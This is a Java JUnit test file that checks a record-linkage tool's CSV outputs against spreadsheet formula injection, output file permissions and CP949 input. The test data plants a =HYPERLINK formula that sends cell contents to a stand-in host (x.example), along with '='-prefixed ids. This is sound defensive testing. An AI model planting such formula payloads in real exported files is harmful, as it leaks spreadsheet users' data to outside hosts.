package org.tumen.app;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.tumen.model.SpreadsheetSafe;

/**
 * Issue 12, finding 8 and Low items, for {@code tumen link}'s outputs: a list named {@code @evil}
 * whose record ids and birthplaces are formulas, the other list in CP949. Synthetic lists from
 * {@code tumen simulate}.
 */
class LinkOutputsIssue12Test {

  @TempDir static Path dir;
  static LinkCommandTest.Run linked;

  @BeforeAll
  static void link() throws Exception {
    LinkCommandTest.Run sim =
        LinkCommandTest.run(
            "simulate",
            "--population",
            "400",
            "--lists",
            "2",
            "--seed",
            "3",
            "--out",
            dir.resolve("sim").toString());
    assertThat(sim.status()).as(sim.err()).isZero();
    // church_a (Korean headers) in CP949, as an NGO's Windows machine saves it.
    Path a = dir.resolve("church_a.csv");
    Files.write(
        a,
        Files.readString(dir.resolve("sim/church_a.csv"))
            .getBytes(Charset.forName("x-windows-949")));
    // church_b renamed and poisoned: ids and birthplaces that a spreadsheet would run.
    List<String> lines = Files.readAllLines(dir.resolve("sim/church_b.csv"));
    List<String> poisoned = new ArrayList<>(List.of(lines.get(0)));
    for (String line : lines.subList(1, lines.size())) {
      String[] c = line.split(",", -1);
      c[0] = "=" + c[0];
      c[5] = "\"=HYPERLINK(\"\"http://x.example/\"\"&A1)\"";
      poisoned.add(String.join(",", c));
    }
    Path b = dir.resolve("@evil.csv");
    Files.write(b, poisoned, StandardCharsets.UTF_8);
    linked =
        LinkCommandTest.run(
            "link",
            "--input",
            a.toString(),
            b.toString(),
            "--out",
            dir.resolve("clusters.csv").toString(),
            "--pairs",
            dir.resolve("pairs.csv").toString(),
            "--review",
            dir.resolve("review.csv").toString());
    assertThat(linked.status()).as(linked.err()).isZero();
  }

  static List<CSVRecord> rows(String file) throws Exception {
    try (CSVParser p =
        CSVParser.parse(dir.resolve(file), StandardCharsets.UTF_8, CSVFormat.DEFAULT)) {
      return p.getRecords();
    }
  }

  @Test
  void finding8PairsAndReviewHoldNoFormula() throws Exception {
    for (String file : List.of("pairs.csv", "review.csv")) {
      List<CSVRecord> rows = rows(file);
      assertThat(rows).as(file).hasSizeGreaterThan(1);
      List<String> cells = new ArrayList<>();
      rows.forEach(r -> r.forEach(cells::add));
      assertThat(cells)
          .as(file)
          .allMatch(
              c ->
                  c.isEmpty()
                      || "=+-@\t\r".indexOf(c.charAt(0)) < 0
                      || Double.isFinite(Double.parseDouble(c)));
      assertThat(cells).as(file).contains("'@evil");
      assertThat(cells).as(file).anyMatch(c -> c.startsWith("'=") && c.length() > 2);
    }
    assertThat(rows("review.csv").stream().flatMap(r -> r.stream()))
        .contains("'=HYPERLINK(\"http://x.example/\"&A1)");
  }

  @Test
  void finding8NegativeWeightsStayNumbersAndCellsRoundTrip() throws Exception {
    List<CSVRecord> pairs = rows("pairs.csv");
    assertThat(pairs.subList(1, pairs.size()))
        // Every weight is written as a number, never quoted, whatever its sign: whether this run
        // has a negative one depends on the linker's threshold (SpreadsheetSafeTest covers -12.5).
        .allMatch(r -> Double.isFinite(Double.parseDouble(r.get(5))));
    // What a reader gets back after dropping the quote is the list's own value.
    assertThat(pairs.subList(1, pairs.size()))
        .anyMatch(r -> SpreadsheetSafe.restore(r.get(0)).equals("@evil"));
  }

  @Test
  void reviewHoldsNamesInClearOwnerOnlyAndSaysSo() throws Exception {
    assertThat(WorkspaceOutputsIssue12Test.mode(dir.resolve("review.csv"))).isEqualTo("rw-------");
    assertThat(WorkspaceOutputsIssue12Test.mode(dir.resolve("pairs.csv"))).isEqualTo("rw-------");
    assertThat(linked.err()).contains("review.csv holds the compared names").contains("IN CLEAR");
  }

  @Test
  void linkReadsTheCp949ListAsImportDoes() throws Exception {
    // Every record of both lists is in the clusters: the CP949 list was read, not refused.
    assertThat(rows("clusters.csv").stream().filter(r -> r.get(0).equals("church_a")).count())
        .isEqualTo(Files.readAllLines(dir.resolve("sim/church_a.csv")).size() - 1);
  }
}
